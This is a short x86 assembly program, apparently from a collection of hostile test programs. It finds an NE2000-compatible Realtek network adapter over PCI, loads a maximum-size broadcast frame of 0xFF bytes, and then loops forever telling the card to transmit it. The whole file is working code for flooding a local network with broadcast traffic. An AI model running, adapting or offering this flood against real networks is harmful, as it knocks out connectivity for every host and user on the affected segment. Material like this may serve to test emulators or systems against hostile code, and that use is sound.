; Frames as fast as the network adapter takes them, to everybody.
%include "hostile.inc"

prepare:
        mov     ebp, 0xc000             ; look for an adapter of the NE2000's kind among PCI functions
        mov     ebx, 0x8000_0000
.slot:  mov     eax, ebx
        mov     dx, 0xcf8
        out     dx, eax
        mov     dx, 0xcfc
        in      eax, dx
        cmp     eax, 0x8029_10ec
        je      .found
        add     ebx, 0x800
        test    ebx, 0x1_0000
        jz      .slot
        jmp     .go
.found: lea     eax, [ebx + 0x10]
        mov     dx, 0xcf8
        out     dx, eax
        mov     dx, 0xcfc
        in      eax, dx
        and     eax, 0xfffc
        mov     ebp, eax
.go:    mov     edx, ebp                ; page 0, stopped; 16 bits, normal operation
        mov     al, 0x21
        out     dx, al
        lea     edx, [ebp + 0x0e]
        mov     al, 0x49
        out     dx, al
        lea     edx, [ebp + 0x0d]
        xor     al, al
        out     dx, al
        lea     edx, [ebp + 8]          ; a frame of 1514 bytes at 4000h: to all
        xor     al, al
        out     dx, al
        inc     edx
        mov     al, 0x40
        out     dx, al
        inc     edx
        mov     al, 1514 & 0xff
        out     dx, al
        inc     edx
        mov     al, 1514 >> 8
        out     dx, al
        mov     edx, ebp
        mov     al, 0x12
        out     dx, al
        lea     edx, [ebp + 0x10]
        mov     ecx, 1514 / 2
        mov     eax, -1
.byte:  out     dx, ax
        loop    .byte
        lea     edx, [ebp + 4]
        mov     al, 0x40
        out     dx, al
        inc     edx
        mov     al, 1514 & 0xff
        out     dx, al
        inc     edx
        mov     al, 1514 >> 8
        out     dx, al
        ret

attack: mov     edx, ebp
        mov     al, 0x26
        out     dx, al
        jmp     attack
